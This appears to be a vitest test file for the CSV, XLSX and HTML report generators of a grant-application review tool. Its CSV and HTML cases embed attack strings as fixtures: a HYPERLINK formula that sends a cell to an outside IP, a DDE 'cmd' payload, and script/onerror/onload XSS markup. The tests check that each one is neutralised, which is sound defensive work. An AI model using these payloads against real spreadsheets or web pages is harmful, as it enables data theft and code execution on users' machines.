import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { findingsCsv } from '../../lib/reports/findings-csv.ts';
import { renderReport } from '../../lib/reports/html/report.ts';
import { rankingCsv } from '../../lib/reports/ranking-csv.ts';
import type { ReviewedRun } from '../../lib/reports/reviewed-run.ts';
import { findingsWorkbook } from '../../lib/reports/xlsx/findings-workbook.ts';
import { rankingWorkbook } from '../../lib/reports/xlsx/ranking-workbook.ts';
import { APPLICATIONS, ROUND } from '../pipeline/uploads.ts';
import { readReport } from '../reports/read-report.ts';
import { builtCommand } from '../support/command.ts';
import { MemoryPipeline } from '../support/pipeline.ts';
import { bytesOf as together, sheetsOf, type FileCell } from '../support/read-xlsx.ts';
import { temporaryFolder } from '../support/temporary.ts';
import { bytesOf, caseOf, idsOf, readBytes } from './cases.ts';
import { filesOfCase, reviewCase, reviewFiles } from './round-cases.ts';

// Cases about what the reports show. Expectations are the cases' own.

const csv = (run: ReviewedRun): string =>
  Buffer.concat([...rankingCsv(run)].map((piece) => Buffer.from(piece))).toString();

/** The cells of a column of the ranking in XLSX, by its name. */
async function column(run: ReviewedRun, name: string): Promise<(FileCell | undefined)[]> {
  const ranking = sheetsOf(together(await rankingWorkbook(run)))[1];
  const [header = {}, ...rows] = ranking?.rows ?? [];
  const letters = Object.keys(header).find((key) => header[key]?.value === name) ?? '';
  return rows.map((row) => row[letters]);
}

describe('CSV', () => {
  it('102-csv-injection-vs-numbers: text that begins like a formula is guarded, and numbers are left alone', async () => {
    const rows = readReport(csv(await reviewCase('102-csv-injection-vs-numbers'))).rows;
    expect(rows.map((row) => row.center_name)).toEqual([
      `'=HYPERLINK("http://203.0.113.9/?x="&A1,"open")`,
      `'-2+3+cmd|' /C calc'!A0`,
      "'@SUM(1+1)",
      "'+1 410 555 0100",
      "'- see notes",
    ]);
    expect(rows.map((row) => row.recommended)).toEqual(Array(5).fill('200000.00'));
  });

  it('105-report-no-bom: the report begins with a mark, has CRLF, and its rows come back as they were', async () => {
    const run = await reviewCase('105-report-no-bom');
    const bytes = Buffer.concat([...rankingCsv(run)].map((piece) => Buffer.from(piece)));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString().replaceAll('\r\n', '')).not.toContain('\n');
    const [row] = readReport(bytes.toString()).rows;
    const header = caseOf('105-report-no-bom').input.text?.split('\n')[0] ?? '';
    const again = (caseOf('105-report-no-bom').input.text ?? '')
      .split('\n')[1]
      ?.replace('René Café Center', row?.center_name ?? '')
      .replace('Prince George’s County', row?.locality ?? '');
    const batch = await readBytes(Buffer.from(`${header}\n${again ?? ''}\n`));
    expect(batch.applications.at(0)).toMatchObject({
      centerName: 'René Café Center',
      locality: { fips: '24033' },
    });
  });

  it('109-report-ids-as-dates: CSV has the ids unchanged, XLSX has them as text, and they come back', async () => {
    const run = await reviewCase('109-report-ids-as-dates');
    const ids = ['00123', '10-12-2026', '24E10'];
    expect(
      readReport(csv(run))
        .rows.map((row) => row.application_id)
        .sort(),
    ).toEqual(ids);
    const cells = await column(run, 'application_id');
    expect(cells.map((cell) => [cell?.type, cell?.format])).toEqual(Array(3).fill(['text', '@']));
    const [header, ...rows] = (caseOf('109-report-ids-as-dates').input.text ?? '').trimEnd().split('\n');
    const fromXlsx = rows.map((row, i) => row.replace(/^[^,]*/, cells[i]?.value ?? ''));
    expect([...idsOf(await readBytes(Buffer.from([header, ...fromXlsx].join('\n'))))].sort()).toEqual(ids);
  });
});

describe('XLSX', () => {
  it('046-report-total-vs-rows: the rows of the workbook have the shares, and its total is their sum', async () => {
    const run = await reviewCase('046-report-total-vs-rows', { budget: '50000.00', policy: 'proportional' });
    const awards = (await column(run, 'recommended')).map((cell) => cell?.value);
    expect(awards).toEqual(['16666.67', '16666.67', '16666.66']);
    const programs = sheetsOf(together(await rankingWorkbook(run)))[2];
    // The columns are program, policy, round_file_budget, charged_to_round, budget, recommended.
    expect(programs?.rows[1]?.F).toMatchObject({ type: 'number', value: '50000.00' });
  });

  it('106-xlsx-control-and-length: parts are well-formed XML and no cell is too long, whatever was refused', async () => {
    const text = caseOf('106-xlsx-control-and-length').input.text ?? '';
    const [header, row = ''] = text.split('\n');
    const long = row.replace('A-440', 'A-441').replace(/Amity[^,]*/, 'x'.repeat(40_000));
    const run = await reviewFiles(filesOfCase(Buffer.from([header, row, long].join('\n'))));
    expect(run.review.counts).toMatchObject({ rows: 2, waiting: 2 });
    const sheets = [
      ...sheetsOf(together(await rankingWorkbook(run))),
      ...sheetsOf(together(await findingsWorkbook(run))),
    ];
    for (const { xml } of sheets) expect(xml).not.toMatch(/[\u0000-\u0008\u000B-\u001F]/);
    const cells = sheets.flatMap(({ rows }) => rows.flatMap((each) => Object.values(each)));
    expect(Math.max(...cells.map(({ value }) => value.length))).toBeLessThanOrEqual(32_767);
    expect(cells.some(({ value }) => value.includes('\u000B'))).toBe(true);
  });

  const command = builtCommand();
  const folder = temporaryFolder();
  it.each(['UTC', 'America/New_York', 'Asia/Tokyo'])(
    '108-xlsx-date-shift: a day is the same whole number in %s',
    async (zone) => {
      const files = { applications: join(folder, 'applications.csv'), round: join(folder, 'round.yaml') };
      writeFileSync(files.applications, bytesOf('108-xlsx-date-shift'));
      writeFileSync(files.round, filesOfCase(Buffer.from('')).round);
      const out = join(folder, zone.replace('/', '-'));
      const args = ['review', files.applications, '--round', files.round, '--out', out, '--outputs', 'xlsx'];
      expect(await command.run(args, { TZ: zone })).toMatchObject({ status: 0, stderr: '' });
      const [, ranking] = sheetsOf(readFileSync(join(out, 'ranking.xlsx')));
      const days = Object.values(ranking?.rows[1] ?? {}).filter(({ format }) => format === 'yyyy-mm-dd');
      expect(days).toEqual([{ type: 'number', format: 'yyyy-mm-dd', value: '46204' }]);
      expect(readFileSync(join(out, 'ranking.xlsx'))).toEqual(
        readFileSync(join(folder, 'UTC', 'ranking.xlsx')),
      );
    },
  );
});

describe('HTML', () => {
  it('110-html-script: markup in names and in refused ids is text', async () => {
    const html = renderReport(await reviewCase('110-html-script'));
    expect(html).toContain('&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;');
    expect(html).toContain('svg onload=alert(1)');
    expect(html).not.toMatch(/<(?:script|img)/i);
    expect(html).not.toMatch(/Sons[^<]{0,10}<b>/);
    expect(html).not.toMatch(/<svg[^>]*onload/);
    const refused = [...findingsCsv((await reviewCase('110-html-script')).findings)].join('');
    expect(refused).toContain('svg onload=alert(1)');
  });
});

describe('links', () => {
  it('111-presigned-expiry: nothing that is stored or reported holds a link that expires', async () => {
    const pipeline = new MemoryPipeline();
    await pipeline.upload('inbox/rounds/FY2027/round.yaml', ROUND);
    const receipt = await pipeline.upload('inbox/rounds/FY2027/applications.csv', APPLICATIONS);
    expect(receipt.reports).toBe(`rounds/FY2027/runs/${receipt.runId ?? ''}/`);
    expect(JSON.stringify(receipt)).not.toMatch(/https?:|X-Amz-/);
    const stored = await pipeline.reports.list(receipt.reports ?? '');
    expect(stored.length).toBeGreaterThan(5);
    for (const { key, versionId } of stored.filter((each) => !each.key.endsWith('.xlsx'))) {
      const object = await pipeline.reports.read(key, versionId);
      expect(Buffer.from(object?.bytes ?? '').toString()).not.toContain('X-Amz-');
    }
  });
});
